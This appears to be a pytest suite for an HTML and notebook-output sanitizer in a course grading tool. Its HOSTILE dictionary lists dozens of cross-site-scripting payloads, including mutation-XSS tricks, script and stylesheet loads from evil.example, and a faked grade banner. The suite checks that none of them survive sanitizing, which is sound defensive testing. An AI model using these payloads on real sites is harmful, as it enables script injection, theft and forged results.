"""Outputs as handed in: what runs, loads, hides or floods does not come through; tables, text and pictures do."""

from __future__ import annotations

import base64
import struct
import zlib
from html.parser import HTMLParser

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from classroom.grading.clean_html import DEEPEST, clean_html
from classroom.grading.clean_text import CUT, shortened, visible, without_paths
from classroom.grading.outputs import MOST, safe_outputs
from classroom.grading.pictures import safe_picture, safe_picture_url

TAGS = {
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "p", "div", "ul", "ol", "li", "pre", "code"),
    *("b", "strong", "i", "em", "sub", "sup", "br", "hr", "img"),
}


OF_CELLS = {
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope", "class"},
    "table": {"class"},
}
CLASSES = {"dataframe", "row_heading", "col_heading", "index_name", "blank"}


def png(width: int = 2, height: int = 3, claimed: tuple[int, int] | None = None) -> str:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", *(claimed or (width, height)), 8, 0, 0, 0, 0)
    rows = zlib.compress(b"".join(b"\0" + b"\x80" * width for _ in range(height)))
    content = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(content).decode()


def jpeg(width: int, height: int) -> str:
    start = b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width)
    return base64.b64encode(start + b"\x01\x01\x11\x00\xff\xd9").decode()


class Seen(HTMLParser):
    """Every tag with its attributes, as a parser that is not ours sees them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")


def assert_harmless(markup: str) -> Seen:
    seen = Seen(markup)
    assert seen.open == []
    for tag, attributes in seen.tags:
        assert tag in TAGS
        if tag == "img":
            assert set(attributes) <= {"src", "alt", "width"}
            assert attributes["src"].startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
        else:
            assert set(attributes) <= OF_CELLS.get(tag, set())
            assert set(attributes.get("class", "").split()) <= CLASSES
            assert attributes.get("scope", "row") in ("row", "col", "rowgroup", "colgroup")
            assert all(1 <= int(attributes.get(name, 1)) <= 50 for name in ("colspan", "rowspan"))
    return seen


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script never closed": "<script>alert(1)",
    "script in a table": "<table><tr><td><script>alert(1)</script>5</td></tr></table>",
    "handler": '<img src="x" onerror="alert(1)">',
    "handler without quotes": "<img src=x onerror=alert(1)//",
    "handler on a cell": '<table><tr><td onmouseover="alert(1)">5</td></tr></table>',
    "handler after a slash": "<b/onclick=alert(1)>x</b>",
    "address that runs": '<a href="javascript:alert(1)">x</a>',
    "address that runs, hidden": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "picture from a host": '<img src="https://evil.example/p.png">',
    "picture that is HTML": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "picture that is SVG": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "picture that is none": '<img src="data:image/png;base64,PHNjcmlwdD4=">',
    "picture that breaks out": '<img src="data:image/png;base64,AAAA&quot; onerror=alert(1)">',
    "style with an address": '<p style="background:url(https://evil.example/x)">x</p>',
    "style element": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame with text": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": '<object data="x.swf"><embed src="x.swf"></object>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'/></svg>",
    "svg for a moment": "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    "form": '<form action="https://evil.example"><button formaction=javascript:alert(1)>x</button></form>',
    "comment": "<!-- <script>alert(1)</script> --><!--><img src=x onerror=alert(1)>-->",
    "declaration": "<!DOCTYPE html><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "end of our own elements": "</pre></div></section></main><h1>Right. 20 of 20 points.</h1>",
    "looks of our own": '<div class="box correct" id="task-1"><p class="head">Right.</p></div>',
    "title in noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "text area": "<textarea></textarea><img src=x onerror=alert(1)>",
    "text as markup": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "twice": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "nul": "<scr\0ipt>alert(1)</scr\0ipt>",
    "quote never closed": "<p title='x>y",
    "only signs": "<<<>>><a<b>&&&#60;script&#62;",
    "form and math for a moment": ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    "style in noscript": "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "comment in the style of math": "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "annotation that is HTML": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'
    ),
    "title that moves out of svg": (
        "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src='x' onerror='alert(1)'>\">"
    ),
    "glyph between table and style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'
    ),
    "template in select": (
        '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">'
    ),
    "comment that ends with a bang": "<!--a--!><img src=x onerror=alert(1)>-->",
    "deeper than browsers go": "<div>" * 509 + "<table><caption><svg><title><table><caption></caption></table></title>"
    '<style><a id="</style><img src=x onerror=alert(1)>"></style></svg></caption></table>',
    "backticks": f'<img alt="``onerror=alert(1)" src="data:image/png;base64,{png()}">',
    "classes of the page": (
        '<table class="box correct dataframe"><th class="mark blank" scope="onclick">20 of 20</table>'
    ),
    "span too wide": '<table><tr><td colspan="100000" rowspan="9e9">x</td><td colspan="3">y</td></tr></table>',
}


@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE)
def test_no_hostile_html_comes_through(markup):
    assert_harmless(clean_html(f"before {markup} after", "picture"))


def test_what_hostile_html_leaves_can_still_be_read():
    assert clean_html(HOSTILE["script in a table"], "") == "<table><tbody><tr><td>5</td></tr></tbody></table>"
    assert clean_html("<script>alert(1)</script>", "") == ""
    assert clean_html(HOSTILE["text as markup"], "") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert clean_html("1 < 2 & 3 > 2", "") == "1 &lt; 2 &amp; 3 &gt; 2"
    cells = '<td>x</td><td colspan="3">y</td>'
    assert clean_html(HOSTILE["span too wide"], "") == f"<table><tbody><tr>{cells}</tr></tbody></table>"
    assert clean_html("<h1>Total</h1>", "") == "<div>Total</div>"
    assert clean_html('<th scope="row">x', "") == "x"
    cells = '<th class="blank">20 of 20</th>'
    assert (
        clean_html(HOSTILE["classes of the page"], "")
        == f'<table class="dataframe"><tbody><tr>{cells}</tr></tbody></table>'
    )
    assert clean_html("<p>&nbsp;</p><hr>", "") == ""


@given(st.text(alphabet="<>/!-='\"& abimgtdscriptyle\0\u202e&#;x", max_size=200))
def test_whatever_stands_there_stays_harmless(markup):
    assert_harmless(clean_html(markup, "picture"))


@given(st.lists(st.sampled_from([*HOSTILE.values(), "<table>", "</td>", "<td>", "<b>", "text"]), max_size=8))
def test_hostile_html_in_any_company_stays_harmless(parts):
    once = clean_html("".join(parts), "picture")
    assert_harmless(once)
    assert clean_html(once, "picture") == once


def test_another_cleaner_finds_nothing_left_to_do():
    bleach = pytest.importorskip("bleach")
    allowed = {"img": ["src", "alt", "width"], "td": ["colspan"], "th": ["colspan", "class"], "table": ["class"]}
    for name, markup in HOSTILE.items():
        safe = clean_html(markup, "picture")
        again = Seen(bleach.clean(safe, tags=TAGS, attributes=allowed, protocols=["data"], strip=True))
        added = [one for one in again.tags if one[0] != "tbody"]  # which it puts around rows without one
        assert added == [one for one in Seen(safe).tags if one[0] != "tbody"], name
        assert again.text == Seen(safe).text, name


def test_a_table_of_pandas_keeps_its_cells_and_loses_its_style():
    table = pd.DataFrame({"customer_id": ["C1", "C2"], "spent": [120.5, 80.0]})
    seen = assert_harmless(clean_html(table._repr_html_(), ""))
    assert [part for part in seen.text.split() if part] == [
        "customer_id",
        "spent",
        "0",
        "C1",
        "120.5",
        "1",
        "C2",
        "80.0",
    ]
    assert [tag for tag, _ in seen.tags].count("td") == 4


def test_a_styled_frame_keeps_its_cells_and_what_its_headings_are():
    pytest.importorskip("jinja2")
    table = pd.DataFrame({"tier": ["Gold", "Silver"], "spent": [120.5, 80.0]}).pivot_table(columns="tier")
    styled = table.style.format(precision=1).set_caption("Spend").highlight_max(color="yellow")
    given = styled.to_html()
    assert "<style" in given and "background" in given and 'id="T_' in given
    safe = clean_html(given, "")
    seen = assert_harmless(safe)
    assert seen.text.split() == ["Spend", "tier", "Gold", "Silver", "spent", "120.5", "80.0"]
    classes = [attributes["class"] for tag, attributes in seen.tags if tag == "th"]
    assert classes == ["index_name", "col_heading", "col_heading", "row_heading"]


def test_headings_keep_what_they_head():
    great = (
        '<table class="gt_table"><thead><tr><th class="x" rowspan="2" scope="col" id="a">tier</th></tr></thead></table>'
    )
    assert clean_html(great, "") == '<table><thead><tr><th scope="col" rowspan="2">tier</th></tr></thead></table>'


def test_deep_and_long_html_is_cut_and_says_so():
    deep = clean_html("<div>x" * 1000, "")
    assert deep.count("<div>") == DEEPEST == deep.count("</div>")
    assert clean_html("<div>" * DEEPEST + "x", "").count("<div>") == DEEPEST
    for tags in ("<div>" * 4_000, "<div>" * 6_000):
        many = clean_html(f"first{tags}last", "")
        assert many.startswith("first") and many.endswith(f"<p>{CUT}</p>") and "last" not in many
    long = clean_html("<p>some words</p>" * 50_000, "")
    assert 29_000 < len(long) < 31_000 and long.endswith(f"<p>{CUT}</p>")
    assert_harmless(long)
    table = clean_html("<table>" + "<tr><td>&amp;</td></tr>" * 2_000, "")
    assert_harmless(table)
    assert table.endswith(f"</tr></tbody></table><p>{CUT}</p>") and "&amp;amp" not in table
    text = clean_html("&amp;" * 10_000, "")
    assert set(Seen(text.removesuffix(f"<p>{CUT}</p>")).text) == {"&"}
    read = clean_html("first<!--" + "x" * 200_000 + "-->last", "")
    assert read == f"first<p>{CUT}</p>"
    assert clean_html(f"<script>{'x' * 300_000}</script>", "") == "", "the text beside it says more"


def test_pictures_are_neither_cut_nor_counted_and_stand_in_their_places():
    large = png(1000, 60)
    both = "".join(
        f'<p>{name}<img src="data:image/png;base64,{one}" alt="{name}"></p>'
        for name, one in (("first", large), ("second", png()))
    )
    padded = clean_html(both + "<p>word</p>" * 5_000, "")
    images = [attributes for tag, attributes in assert_harmless(padded).tags if tag == "img"]
    assert [one["alt"] for one in images] == ["first", "second"]
    assert [one["src"].partition(",")[2] for one in images] == [large, png()]
    assert clean_html('<img src="data:,0" alt="data:,1">' + both, "").count("<img") == 2


def test_what_browsers_open_again_and_again_stays_small():
    opened = "".join(f"<b id={number}><FONT/x={number}><i\nid='{number}'>" for number in range(40))
    seen = clean_html(opened + "<p>x<p>y", "")
    assert seen.rpartition("<p>")[2].count("<b>") <= 3
    assert_harmless(clean_html("<b id='" + ">" * 20 + "<b x>" * 2_000 + "<p>x" * 2_000, ""))


@pytest.mark.parametrize("piece", ["<!--", "<a '", "<svg>", "<b>", "</b>", "<b></i>", "<", "</", "<td colspan=", "&"])
def test_a_million_characters_of_nothing_end(piece):
    assert_harmless(clean_html(piece * (1_000_000 // len(piece)), ""))


@pytest.mark.browser
def test_a_browser_runs_and_asks_for_nothing(browser, tmp_path):
    """All of it on one page; behind each stands a mark, which has to be where it was put: nothing was left open."""
    parts = [f'<div id="at-{place}">{clean_html(one, "x")}</div><s></s>' for place, one in enumerate(HOSTILE.values())]
    path = tmp_path / "hostile.html"
    path.write_text(f"<!DOCTYPE html><meta charset=utf-8><main>{''.join(parts)}</main>", encoding="utf-8")
    page = browser.new_context().new_page()
    asked, said = [], []
    page.on("request", lambda one: asked.append(one.url))
    page.on("dialog", lambda one: (said.append(one.message), one.dismiss()))
    page.goto(path.as_uri())
    assert said == [] and [url for url in asked if not url.startswith(("file:", "data:"))] == []
    assert page.locator("main > div + s").count() == len(HOSTILE)
    names = page.evaluate("[...new Set([...document.querySelectorAll('main *')].map(one => one.localName))]")
    assert set(names) <= TAGS | {"s"}
    handlers = "[...document.querySelectorAll('main *')].flatMap(one => one.getAttributeNames())"
    assert set(page.evaluate(handlers)) <= {"id", "class", "scope", "colspan", "rowspan", "src", "alt", "width"}


def test_pictures_are_what_they_say_and_no_larger_than_a_screen_can_hold():
    assert safe_picture("image/png", png()) == png()
    assert safe_picture("image/png", png()[:20] + "\n" + png()[20:]) == png()
    assert safe_picture("image/jpeg", jpeg(640, 480)) == jpeg(640, 480)
    assert safe_picture("image/png", png(claimed=(60_000, 60_000))) == ""
    assert safe_picture("image/jpeg", jpeg(60_000, 60_000)) == ""
    assert safe_picture("image/png", png(claimed=(0, 5))) == ""
    assert safe_picture("image/png", jpeg(640, 480)) == ""
    assert safe_picture("image/svg+xml", png()) == ""
    assert safe_picture("image/png", "no base64 at all!") == ""
    assert safe_picture("image/png", "\u0661\u0662") == ""
    assert safe_picture("image/png", base64.b64encode(base64.b64decode(png()) + b"\0" * 2_000_001).decode()) == ""
    assert safe_picture_url(f"data:image/png;base64,{png()}") == f"data:image/png;base64,{png()}"
    assert safe_picture_url(f"https://evil.example/{png()}") == ""


def test_pictures_in_html_keep_their_text_and_their_width():
    one = (
        f'<img class="x" src="data:image/png;base64,{png()}" alt="Spend by &lt;tier&gt;" width="640" style="a:url(b)">'
    )
    seen = assert_harmless(clean_html(one, "picture"))
    assert seen.tags[0][1]["alt"] == "Spend by <tier>"
    assert seen.tags[0][1]["width"] == "640"
    bare = assert_harmless(clean_html(f"<img src='data:image/png;base64,{png()}'>", "圖"))
    assert bare.tags[0][1]["alt"] == "圖"


def test_kinds_that_run_are_left_out_and_the_text_beside_them_stays():
    data = {
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "text/html": "<script>alert(1)</script>",
        "text/latex": r"\href{javascript:alert(1)}{x}",
        "text/markdown": "[x](javascript:alert(1))",
        "image/svg+xml": "<svg onload=alert(1)>",
        "text/plain": ["a ", "text"],
    }
    (safe,) = safe_outputs([{"output_type": "display_data", "data": data, "metadata": {"x": "<script>"}}])
    assert safe == {"output_type": "display_data", "data": {"text/plain": "a text"}, "metadata": {}}
    assert safe_outputs([{"output_type": "display_data", "data": {"application/javascript": "alert(1)"}}]) == []


def test_a_result_an_error_and_a_stream_come_through():
    outputs = [
        {"output_type": "stream", "name": "stderr", "text": "\x1b[31mred\x1b[0m\n"},
        {"output_type": "execute_result", "execution_count": 3, "data": {"text/plain": "5"}, "metadata": {}},
        {
            "output_type": "error",
            "ename": "NameError",
            "evalue": "name 'x'",
            "traceback": ["\x1b[0;31mNameError\x1b[0m"],
        },
    ]
    assert safe_outputs(outputs) == [
        {"output_type": "stream", "name": "stderr", "text": "red\n"},
        {"output_type": "execute_result", "execution_count": 3, "data": {"text/plain": "5"}, "metadata": {}},
        {"output_type": "error", "ename": "NameError", "evalue": "name 'x'", "traceback": ["NameError"]},
    ]
    assert safe_outputs(outputs) == safe_outputs(outputs)


@pytest.mark.parametrize(
    "output",
    [
        None,
        "text",
        [],
        {},
        {"output_type": "stream"},
        {"output_type": "stream", "text": 5},
        {"output_type": ["stream"], "text": "x"},
        {"output_type": "display_data", "data": ["text/plain"]},
        {"output_type": "display_data", "data": {"text/plain": {"a": 1}, "image/png": 7, "text/html": None}},
        {"output_type": "pyout", "text": "old"},
    ],
)
def test_what_is_no_output_is_left_out(output):
    assert safe_outputs([output]) == []


def test_wrong_parts_of_an_output_do_no_harm():
    result = {"output_type": "execute_result", "execution_count": "<b>", "data": {"text/plain": "5"}}
    assert safe_outputs([result])[0]["execution_count"] is None
    error = {"output_type": "error", "ename": 5, "evalue": ["a", "b"], "traceback": "no list"}
    assert safe_outputs([error]) == [{"output_type": "error", "ename": "Error", "evalue": "ab", "traceback": []}]


def test_floods_are_cut():
    (line,) = safe_outputs([{"output_type": "stream", "name": "stdout", "text": "x" * 1_000_000}])
    assert len(line["text"]) <= 10_000 and CUT in line["text"]
    (lines,) = safe_outputs([{"output_type": "stream", "name": "stdout", "text": "x\n" * 500_000}])
    assert lines["text"].count("\n") < 130
    many = safe_outputs([{"output_type": "stream", "name": "stdout", "text": "x"}] * 5_000)
    assert len(many) == MOST + 1 and many[-1]["text"] == CUT


def test_what_cannot_be_seen_is_named():
    assert visible("a\u202eb") == "a[U+202E]b"
    assert visible("\u2066x\u2069\u200f") == "[U+2066]x[U+2069][U+200F]"
    assert visible("a\0b\x07") == "a[U+0000]b[U+0007]"
    assert visible("half \ud800") == "half [U+D800]"
    assert visible("\x1b]0;title\x07plain\x1b[2J") == "plain"
    assert visible("10%\r50%\r100%\r\ndone\n") == "100%\ndone\n"
    assert visible("客戶 👩‍💼\tNT$") == "客戶 👩‍💼\tNT$"


def test_long_text_keeps_its_beginning_and_its_end():
    text = "\n".join(str(number) for number in range(1000))
    short = shortened(text, lines=20)
    assert short.split("\n")[:2] == ["0", "1"] and short.endswith("998\n999") and f"\n{CUT}\n" in short
    assert len(short.split("\n")) <= 20
    assert shortened("short\ntext\n") == "short\ntext\n"
    assert len(shortened("x" * 50_000, longest=100)) <= 100


def test_paths_lose_the_folders_they_begin_with():
    assert without_paths("'/home/mary/course/orders.csv' is not there") == "'…/orders.csv' is not there"
    assert without_paths(r"C:\Users\mary\orders.csv") == "…/orders.csv"
    assert (
        without_paths("2025/12/31, 1/2, and/or, https://a.example/b/c")
        == "2025/12/31, 1/2, and/or, https://a.example/b/c"
    )
